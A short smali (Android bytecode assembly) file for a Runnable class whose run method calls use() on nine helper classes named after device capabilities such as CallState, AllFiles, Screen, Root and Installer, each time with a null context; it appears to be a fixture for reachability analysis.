.class final Lorg/example/reach/Task;
.super Ljava/lang/Object;
.implements Ljava/lang/Runnable;
.source "Task.java"

.method constructor <init>()V
    .registers 1
    invoke-direct {p0}, Ljava/lang/Object;-><init>()V
    return-void
.end method

.method public run()V
    .registers 3
    const/4 v0, 0x0
    invoke-static {v0}, Lorg/example/reach/BookChange;->use(Landroid/content/Context;)V
    invoke-static {v0}, Lorg/example/reach/CallState;->use(Landroid/content/Context;)V
    invoke-static {v0}, Lorg/example/reach/AllFiles;->use(Landroid/content/Context;)V
    invoke-static {v0}, Lorg/example/reach/Screen;->use(Landroid/content/Context;)V
    invoke-static {v0}, Lorg/example/reach/Usage;->use(Landroid/content/Context;)V
    invoke-static {v0}, Lorg/example/reach/Bluetooth;->use(Landroid/content/Context;)V
    invoke-static {v0}, Lorg/example/reach/Fill;->use(Landroid/content/Context;)V
    invoke-static {v0}, Lorg/example/reach/Root;->use(Landroid/content/Context;)V
    invoke-static {v0}, Lorg/example/reach/Installer;->use(Landroid/content/Context;)V
    return-void
.end method
